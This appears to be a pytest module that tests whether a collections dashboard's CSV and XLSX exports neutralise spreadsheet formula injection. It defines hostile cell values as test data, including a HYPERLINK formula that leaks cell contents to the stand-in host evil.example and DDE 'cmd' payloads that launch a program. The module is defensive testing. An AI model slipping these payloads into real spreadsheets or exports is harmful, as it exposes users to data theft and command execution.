"""Spreadsheet formula injection: every CSV and XLSX the product writes is read back.

A database whose text fields start like formulas (=HYPERLINK(...), +, -, @; in agent names,
teams, plan names, portfolios, payment ids, channels, rejected values and file names) is
exported every way the product offers: payout reports (CSV file, CSV on stdout, XLSX), audit
lines, the KPI reports, the import log and the rejects (the CLI prints CSV that users redirect
to a file), and the app's download helpers. Each produced file is parsed again: no CSV cell
may start with = + - @ tab or CR unless it is a plain number or neutralised with a leading
apostrophe; no XLSX cell may be a formula except the workbook's own SUM totals, and the
hostile texts are still there, as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
import yaml

from dashboard.cli import main
from dashboard.ingest.importer import FileSpec, import_files
from dashboard.payouts.plan_file import load_plans
from dashboard.payouts.values import Period
from tests.payout_fixtures import close_through
from tests.reliability.figures import record

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
AGENT_NAME = "=cmd|' /C calc'!A0"
TEAM = "+T1"
PLAN = "-p1"
PORTFOLIO = LINK
CHANNEL = "@SUM(1+1)*cmd|' /C calc'!A0"
REJECTED = "=1+1"
FILE_NAME = "=evil.csv"


def excel_cells(text: str) -> list[str]:
    """The cells of a CSV text as a spreadsheet reads them: a record ends at LF, CRLF or a lone
    CR outside quotes (Python's csv module leaves a CR inside a value unquoted)."""
    cells, cell, quoted, i = [], [], False, 0
    text = text.lstrip("\ufeff")
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell.append(ch)
        elif ch == '"' and not cell:
            quoted = True
        elif ch in ",\r\n":
            cells.append("".join(cell))
            cell = []
        else:
            cell.append(ch)
        i += 1
    return [*cells, "".join(cell)]


def dangerous_csv_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulas (a number like -20.00 is not one)."""
    return [
        cell
        for cell in excel_cells(text)
        if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
    ]


def xlsx_formulas(path: Path) -> tuple[list[str], set[str]]:
    """(formula cells other than the workbook's SUM totals, every text cell)."""
    wb = openpyxl.load_workbook(path)
    formulas, texts = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not str(cell.value).startswith("=SUM("):
                    formulas.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    return formulas, texts


@pytest.fixture(scope="module")
def formula_db(
    base_template: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, Path, int]:
    """Base data plus formula-like names; returns (database, plans file, rejecting import)."""
    folder = tmp_path_factory.mktemp("formulas")
    db_path = folder / "f.duckdb"
    shutil.copyfile(base_template, db_path)
    agents = folder / "agents.csv"
    with agents.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["agent_id", "agent_name", "team", "plan"])
        w.writerow(["G9", AGENT_NAME, TEAM, PLAN])
    accounts = folder / "accounts.csv"
    with accounts.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["account_id", "as_of_date", "portfolio", "placement_date",
                    "placed_balance", "current_balance", "days_past_due", "agent_id"])  # fmt: skip
        w.writerow(["=A9", "2026-10-31", PORTFOLIO, "2026-02-01", "900.00", "800.00", "31", "G9"])
    payments = folder / FILE_NAME
    with payments.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["payment_id", "account_id", "payment_date", "amount", "channel"])
        w.writerow(["=P9", "=A9", "2026-10-08", "400.00", CHANNEL])
        w.writerow(["-P10", "=A9", "2026-10-09", REJECTED, CHANNEL])
    result = import_files(
        [FileSpec(agents, "agents"), FileSpec(accounts, "accounts"), FileSpec(payments)],
        db_path=db_path,
        user="=formula",
        replace=True,  # the one hostile account replaces the October snapshot: confirmed
    )
    assert result.exit_code == 1  # the payment with amount =1+1 is refused
    rejecting = next(f.import_id for f in result.files if f.rows_refused)
    assert rejecting is not None
    plans = folder / "plans.yaml"
    plans.write_text(
        yaml.safe_dump(
            {
                "default_plan": "standard",
                "plans": {
                    "standard": {"rate": 0.02},
                    "ladder": {"rate": 0.025},
                    PLAN: {"rate": 0.03},
                },
                "teams": {TEAM: {"pool_rate": 0.01, "target": 1}},
            }
        ),
        encoding="utf-8",
    )
    return db_path, plans, rejecting


@pytest.fixture
def db_copy(formula_db: tuple[Path, Path, int], tmp_path: Path) -> Iterator[Path]:
    copy = tmp_path / "f.duckdb"
    shutil.copyfile(formula_db[0], copy)
    yield copy


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
    def run(*args: str | Path) -> str:
        capsys.readouterr()
        code = main([str(a) for a in args])
        out, err = capsys.readouterr()
        assert code == 0, err
        return out

    return run


def payout_args(db_path: Path, plans: Path) -> tuple[str | Path, ...]:
    return ("--db", db_path, "--period", "2026-10", "--plans", plans)


def test_payout_exports_neutralise_formulas(
    cli: Callable[..., str], db_copy: Path, formula_db: tuple[Path, Path, int], tmp_path: Path
) -> None:
    args = payout_args(db_copy, formula_db[1])
    whatif = ("report", "payout-whatif", *args, "--candidate", formula_db[1])
    outputs = {
        "payouts csv stdout": cli("report", "payouts", *args, "--format", "csv"),
        "lines csv stdout": cli("report", "payout-lines", *args, "--format", "csv"),
        "whatif csv stdout": cli(*whatif, "--format", "csv"),
    }
    cli(*whatif, "--out", tmp_path / "w.csv")
    outputs["whatif csv file"] = (tmp_path / "w.csv").read_text(encoding="utf-8-sig")
    cli("report", "payouts", *args, "--format", "csv", "--out", tmp_path / "p.csv")
    cli("report", "payout-lines", *args, "--out", tmp_path / "l.csv")
    outputs["payouts csv file"] = (tmp_path / "p.csv").read_text(encoding="utf-8-sig")
    outputs["lines csv file"] = (tmp_path / "l.csv").read_text(encoding="utf-8-sig")
    for name, text in outputs.items():
        assert dangerous_csv_cells(text) == [], name
        record("export_files")
    # The hostile texts are kept, made inert by the leading apostrophe.
    assert f"'{AGENT_NAME}" in outputs["payouts csv file"]
    assert f"'{TEAM}" in outputs["payouts csv file"] and f"'{PLAN}" in outputs["payouts csv file"]
    assert "'=P9" in outputs["lines csv file"]
    assert f"'{AGENT_NAME}" in outputs["whatif csv file"]
    assert f"'{PLAN}" in outputs["whatif csv file"]

    cli("report", "payouts", *args, "--format", "xlsx", "--out", tmp_path / "p.xlsx")
    formulas, texts = xlsx_formulas(tmp_path / "p.xlsx")
    assert formulas == []
    assert {AGENT_NAME, TEAM, PLAN, "=P9"} <= texts  # as text cells, never formulas
    record("export_files")


def test_approved_period_exports_neutralise_formulas(
    cli: Callable[..., str], db_copy: Path, formula_db: tuple[Path, Path, int], tmp_path: Path
) -> None:
    args = payout_args(db_copy, formula_db[1])
    close_through(db_copy, Period(2026, 9), load_plans(formula_db[1]))  # September first
    cli("prepare", *args, "--by", "=preparer")
    cli("approve", *args, "--by", "=approver")
    cli("report", "payouts", *args, "--format", "xlsx", "--out", tmp_path / "a.xlsx")
    formulas, texts = xlsx_formulas(tmp_path / "a.xlsx")
    assert formulas == [] and AGENT_NAME in texts
    assert dangerous_csv_cells(cli("report", "payouts", *args, "--format", "csv")) == []
    record("export_files", 2)


def test_app_download_helpers_neutralise_formulas() -> None:
    from dashboard.ui.tables import csv_bytes

    table = pa.table({"agent_name": [AGENT_NAME, LINK, TEAM, PLAN, CHANNEL, "\tx", "-x"]})
    text = csv_bytes(table).decode("utf-8-sig")
    assert dangerous_csv_cells(text) == []
    assert f"'{LINK}" in excel_cells(text)
    record("export_files")


def test_csv_exports_keep_line_breaks_inside_values_quoted() -> None:
    """A CR inside a value is quoted (a spreadsheet would start a new row there), and the
    formula after it is neutralised too (issue 9 item 21)."""
    from dashboard.spreadsheet import write_csv

    buf = io.StringIO()
    write_csv(pa.table({"agent_name": ["Bob\r" + LINK, "\r=1+1"]}), buf)
    assert dangerous_csv_cells(buf.getvalue()) == [], repr(buf.getvalue())


def kpi_csv(cli: Callable[..., str], db_path: Path) -> dict[str, str]:
    return {
        name: cli("report", name, "--db", db_path, "--format", "csv", *extra)
        for name, extra in (
            ("recovery", ()),
            ("buckets", ()),
            ("agents", ("--from", "2026-10-01", "--to", "2026-10-31")),
            ("vintage", ()),
        )
    }


def test_kpi_report_csv_neutralises_formulas(cli: Callable[..., str], db_copy: Path) -> None:
    outputs = kpi_csv(cli, db_copy)
    assert f"'{LINK}" in excel_cells(outputs["recovery"])  # kept, made inert
    for name, text in outputs.items():
        assert dangerous_csv_cells(text) == [], name
    record("export_files", len(outputs))


def test_rejects_and_import_log_csv_neutralise_formulas(
    cli: Callable[..., str], db_copy: Path, formula_db: tuple[Path, Path, int]
) -> None:
    rejects = cli("rejects", "--db", db_copy, str(formula_db[2]), "--format", "csv")
    log = cli("imports", "--db", db_copy, "--format", "csv")
    assert f"'{REJECTED}" in excel_cells(rejects) and f"'{FILE_NAME}" in excel_cells(log)
    assert dangerous_csv_cells(rejects) == [], rejects
    assert dangerous_csv_cells(log) == [], log
    record("export_files", 2)


def test_json_output_keeps_the_text_exactly(cli: Callable[..., str], db_copy: Path) -> None:
    """JSON is not run by spreadsheets: it must carry the names unchanged (no apostrophe)."""
    rows = json.loads(cli("report", "recovery", "--db", db_copy, "--format", "json"))
    assert LINK in {r.get("portfolio") for r in rows}
